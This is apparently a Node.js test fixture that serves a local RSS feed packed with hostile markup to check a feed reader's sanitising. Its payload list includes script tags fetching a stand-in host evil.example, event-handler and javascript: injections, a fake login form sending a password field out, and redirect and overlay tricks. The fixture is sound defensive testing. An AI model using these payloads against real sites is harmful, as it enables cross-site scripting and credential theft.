// A friend whose feed wants to do harm: every attack in every place where a feed has room for text.
// Started by `run`; writes its port into the file it is given, and serves until it is ended.

import { createServer } from 'node:http';
import { writeFileSync } from 'node:fs';

const EVIL = 'http://evil.example';
const ATTACKS = [
  '<script>document.title = "stolen"; fetch("' + EVIL + '")</script>',
  `<img src="${EVIL}/pixel.gif" srcset="${EVIL}/2x.gif 2x" onerror="document.title = 'stolen'" width=9000>`,
  `<style>@import "${EVIL}/x.css"; body { display: none }</style><link rel=stylesheet href="${EVIL}/y.css">`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/o"></object><video src="${EVIL}/v" autoplay></video>`,
  '<a href="javascript:document.title=`stolen`" onclick="document.title=`stolen`">click</a>',
  `<form action="${EVIL}"><input name=password autofocus onfocus="document.title='stolen'"><button>Log in</button></form>`,
  '<svg onload="document.title=`stolen`"><script>document.title = "stolen"</script></svg>',
  '<div id="main" class="site-header" style="position:fixed;inset:0;background:url(' + EVIL + '/bg)">over everything</div>',
  `<base href="${EVIL}/"><meta http-equiv=refresh content="0;url=${EVIL}/">`,
  '</main></body></html><!-- --> "\'><b>out',
  'x'.repeat(3000),
  '<table><tr>' + '<td>wide</td>'.repeat(80) + '</tr></table><pre>' + 'y'.repeat(900) + '</pre>',
];

const escaped = (text) => text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
let feed = '';
const server = createServer((_, response) => {
  response.writeHead(200, { 'content-type': 'application/rss+xml' });
  response.end(feed);
});
server.listen(0, '127.0.0.1', () => {
  const { port } = server.address();
  const site = `http://127.0.0.1:${port}/`;
  const items = ATTACKS.map((attack, at) => `<item><title>${at % 2 ? escaped(attack) : ''}</title><link>${site}${at}/</link><guid>${site}${at}/</guid>
<pubDate>${String(at + 1).padStart(2, '0')} Jun 2026 10:00:00 GMT</pubDate>
<description>${escaped(`<p><a class="u-in-reply-to" href="https://ada.example/repo/2026/05/midsummer-supper/">Re</a></p>${attack}`)}</description></item>`);
  feed = `<rss version="2.0"><channel><title>${escaped(ATTACKS[0])}</title><link>${site}</link><description>x</description>${items.join('')}</channel></rss>`;
  writeFileSync(process.argv[2], String(port));
});
